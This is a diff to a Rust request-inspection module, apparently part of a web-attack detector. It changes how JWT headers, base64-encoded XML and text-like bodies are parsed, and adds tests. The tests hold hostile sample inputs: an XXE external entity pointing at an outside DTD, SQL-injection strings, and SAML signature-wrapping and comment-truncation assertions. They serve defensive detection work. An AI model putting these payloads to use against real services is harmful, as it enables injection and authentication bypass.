@@ -719,7 +719,7 @@ fn urlencoded(c: &mut Collector<'_>, data: &[u8], prefix: &str, from_query: bool
                 c.anomaly(rules::PROTO_SECRET_FIELD, &owned(), "secret field");
             }
             // A JWT as a parameter (an OAuth assertion): its header's key pointers.
-            if v.starts_with(b"eyJ") && !c.full() {
+            if v.starts_with(b"ey") && !c.full() {
                 jwt_header(c, &v, &format!("{}:jose", owned()));
             }
             if &*name == b"_method" && c.out.method_overrides.len() < MAX_METHOD_OVERRIDES {
@@ -867,8 +867,9 @@ fn embedded(c: &mut Collector<'_>, value: &[u8], prefix: impl FnOnce() -> String
 /// a SAML message, a storage key in JSON): the standard or URL-safe alphabet, at least
 /// [`MIN_EMBEDDED_BASE64`] characters, decoding to UTF-8 text with letters and no control
 /// characters but tabs and line breaks. It is inspected as the application will read it: a
-/// JSON document's keys and strings under `PREFIX:b64:/path`, an XML document as an XML body
-/// is read ([`xml`]) under `PREFIX:b64`, other text whole as one `kind`
+/// JSON document's keys and strings under `PREFIX:b64:/path`, a SAML message as an XML body
+/// is read ([`xml`]) under `PREFIX:b64`, other XML for its markup declarations (its DTD)
+/// under `PREFIX:b64:!declaration`, other text whole as one `kind`
 /// input under `PREFIX:b64` (outside cookies, only text of one line: more is a file's
 /// content). Base64 of binary (random ids, signatures, hashes) is left alone, and so is a JWT
 /// (dots are not base64): its claims are the identity stage's to verify.
@@ -926,11 +927,16 @@ fn base64_document(
     let label = format!("{}:b64", prefix());
     let first = decoded.iter().find(|b| !b.is_ascii_whitespace());
     if kind != Kind::CookieValue {
-        // An XML message (SAML's, sent base64 by design) is read as a body of XML is: its
-        // DTD is what its parser fetches, and its values (a `NameID`, an attribute's value,
-        // a `SessionIndex`) are what the service provider looks up and shows.
+        // A SAML message (sent base64 by design) is read as a body of XML is: its DTD is
+        // what its parser fetches, and its values (a `NameID`, an attribute's value, a
+        // `SessionIndex`) are what the service provider looks up and shows. Other XML (a
+        // file's content, an attachment) is read for its DTD alone: it is stored.
         if first == Some(&b'<') {
-            xml(c, &decoded, &label, true);
+            if memchr::memmem::find(&decoded, b"urn:oasis:names:tc:SAML:").is_some() {
+                xml(c, &decoded, &label, true);
+            } else {
+                xml_declarations(c, &decoded, &label);
+            }
             return;
         }
         // Text of several lines is a file's content (GitHub's contents API, attachments):
@@ -1020,6 +1026,29 @@ fn saml_redirect(c: &mut Collector<'_>, value: &[u8], label: &str) {
     };
     if doc.trim_ascii_start().first() == Some(&b'<') {
         xml(c, &doc, &format!("{label}:deflate"), true);
+    }
+}
+
+/// The markup declarations of an XML document (`<!DOCTYPE …>`, `<!ENTITY …>`), each as a
+/// [`Kind::Declaration`] under `PREFIX:!declaration`; comments and CDATA are not ones.
+fn xml_declarations(c: &mut Collector<'_>, doc: &[u8], prefix: &str) {
+    let mut rest = doc;
+    for _ in 0..8 {
+        let Some(at) = memchr::memmem::find(rest, b"<!") else {
+            return;
+        };
+        rest = &rest[at..];
+        let end = memchr::memchr(b'>', rest).map_or(rest.len(), |e| e + 1);
+        if !rest.starts_with(b"<!--") && !rest.starts_with(b"<![CDATA[") {
+            c.push(
+                format!("{prefix}:!declaration"),
+                Kind::Declaration,
+                rest[..end].to_vec(),
+                false,
+                false,
+            );
+        }
+        rest = &rest[end..];
     }
 }
 
@@ -1117,14 +1146,11 @@ fn jwt_header(c: &mut Collector<'_>, token: &[u8], label: &str) {
     if !json_walk(c, &decoded, label) {
         return;
     }
-    // Read a second time only when it may say `none`.
-    let none = |d: &[u8]| d.windows(4).any(|w| w.eq_ignore_ascii_case(b"none"));
-    let alg = || {
-        serde_json::from_slice::<serde_json::Value>(&decoded)
-            .ok()
-            .and_then(|v| v.get("alg")?.as_str().map(str::to_ascii_lowercase))
-    };
-    if none(&decoded) && alg().as_deref() == Some("none") {
+    // Read a second time for its `alg`, escapes decoded (`"\u006eone"`).
+    let alg = serde_json::from_slice::<serde_json::Value>(&decoded)
+        .ok()
+        .and_then(|v| v.get("alg")?.as_str().map(str::to_ascii_lowercase));
+    if alg.as_deref() == Some("none") {
         c.anomaly(rules::PROTO_JWT_ALG_NONE, label, "none");
     }
 }
@@ -1349,8 +1375,9 @@ fn header(c: &mut Collector<'_>, name: &[u8], value: &[u8]) {
         json_walk(c, value, &prefix);
     }
     // A JWS in a header of its own (Open Banking's detached `x-jws-signature`, a DPoP
-    // proof): its header's key pointers, and `alg: none`, under `header:NAME:jose`.
-    if kind == Kind::HeaderValue && value.starts_with(b"eyJ") && !c.full() {
+    // proof, `X-Auth-Token`): its header's key pointers, and `alg: none`, under
+    // `header:NAME:jose`.
+    if value.starts_with(b"ey") && !c.full() {
         let mut label = String::from("header:");
         push_label_part(&mut label, name);
         label.make_ascii_lowercase();
@@ -1471,7 +1498,7 @@ fn body(c: &mut Collector<'_>, req: &RequestView<'_>) {
     } else if !is_binary_type(&mt)
         && (mt.starts_with("text/")
             || (mt.starts_with("application/") && !mt.starts_with("application/vnd."))
-            || !binary_bytes(body))
+            || text_like(body))
     {
         xmlrpc_logins(c, body);
         // JSON sent under another name (`text/plain` from `navigator.sendBeacon`, an error
@@ -1569,16 +1596,25 @@ fn is_binary_type(mt: &str) -> bool {
 }
 
 /// Whether content is binary rather than text: a NUL, or bytes that are not UTF-8, in its
-/// first 512 bytes. A body of a vendor's type (`application/vnd.flux`, a query language's),
-/// of a type outside `application/` and `text/` (HL7's `x-application/hl7-v2+er7`, an
-/// `image/png` that is an ImageMagick script) or of an unknown top-level type is read as
-/// text when it is text: what the application parses is its bytes, not its label.
+/// first 512 bytes.
 fn binary_bytes(content: &[u8]) -> bool {
     match std::str::from_utf8(&content[..content.len().min(512)]) {
         Ok(t) => t.contains('\0'),
         // Cut inside a character at byte 512 is still text; an invalid byte is not.
         Err(e) => e.error_len().is_some(),
     }
+}
+
+/// Whether content reads as text in any ASCII-based charset: no NUL and no control byte
+/// but tab and line breaks in its first 512 bytes (Latin-1's `MÜLLER` is text). A body of a
+/// vendor's type (`application/vnd.flux`, a query language's), of a type outside
+/// `application/` and `text/` (HL7's `x-application/hl7-v2+er7`, an `image/png` that is an
+/// ImageMagick script) or of an unknown top-level type is read when it is text: what the
+/// application parses is its bytes, not its label.
+fn text_like(content: &[u8]) -> bool {
+    !content[..content.len().min(512)]
+        .iter()
+        .any(|&b| (b < 0x20 && !matches!(b, b'\t' | b'\n' | b'\r')) || b == 0x7f)
 }
 
 fn json(c: &mut Collector<'_>, body: &[u8], prefix: &str) {
@@ -3456,6 +3492,10 @@ mod tests {
         let hl7 = b"MSH|^~\\&|EPIC|LAB|||20240514||ADT^A04|1|P|2.5.1\rPID|1||x||<script>x</script>";
         assert_eq!(bodies("x-application/hl7-v2+er7", hl7).len(), 1);
         assert_eq!(
+            bodies("x-application/hl7-v2+er7", b"PID|1||x||M\xdcLLER^ANNA").len(),
+            1
+        );
+        assert_eq!(
             bodies("image/png", b"push graphic-context\nviewbox 0 0 640 480").len(),
             1
         );
@@ -4395,7 +4435,7 @@ mod tests {
         let b64 = |t: &str| base64::engine::general_purpose::STANDARD.encode(t);
         let filter = b64(r#"{"where":"status='active') UNION SELECT 1--"}"#);
         let saml = b64(
-            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://203.0.113.9/x.dtd\"> %x;]>\n<samlp:Response Destination=\"https://localhost/acs\"><saml:Issuer>https://localhost/idp</saml:Issuer><saml:NameID>admin' OR '1'='1</saml:NameID></samlp:Response>",
+            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://203.0.113.9/x.dtd\"> %x;]>\n<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" Destination=\"https://localhost/acs\"><saml:Issuer>https://localhost/idp</saml:Issuer><saml:NameID>admin' OR '1'='1</saml:NameID></samlp:Response>",
         );
         let script = b64("#!/bin/sh\nnpm test\n");
         let query = format!(
@@ -4465,22 +4505,39 @@ mod tests {
                 "<saml:Assertion ID=\"{id}\"><saml:Subject><saml:NameID>{who}</saml:NameID></saml:Subject></saml:Assertion>"
             )
         };
+        let open = "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\">";
         let one = format!(
-            "<samlp:Response>{}</samlp:Response>",
+            "{open}{}</samlp:Response>",
             assertion("a1", "ada@corp.example")
         );
         assert_eq!(posted(&one), 0);
         let two = format!(
-            "<samlp:Response>{}<ds:Object>{}</ds:Object></samlp:Response>",
+            "{open}{}<ds:Object>{}</ds:Object></samlp:Response>",
             assertion("evil", "admin@corp.example"),
             assertion("a1", "ada@corp.example")
         );
         assert_eq!(posted(&two), 1);
         let comment = format!(
-            "<samlp:Response><!-- signed by the IdP -->{}</samlp:Response>",
+            "{open}<!-- signed by the IdP -->{}</samlp:Response>",
             assertion("a1", "admin@corp.example<!---->.evil.example")
         );
         assert_eq!(posted(&comment), 1);
+        // Other XML in base64 (an attachment) is stored, and read for its DTD alone.
+        let page = "<html><body><button onclick=\"t()\">Go</button></body></html>";
+        let body = format!(
+            r#"{{"content":"{}"}}"#,
+            base64::engine::general_purpose::STANDARD.encode(page)
+        );
+        let req = RequestView::new("POST", b"/v3/mail/send")
+            .header("Content-Type", "application/json")
+            .body(body.as_bytes());
+        let x = extract(&req, &Limits::default(), None);
+        assert!(x.anomalies.is_empty(), "{:?}", x.anomalies);
+        assert!(
+            !labels(&x, Kind::Value)
+                .iter()
+                .any(|(l, _)| l.contains("b64:/"))
+        );
     }
 
     #[test]
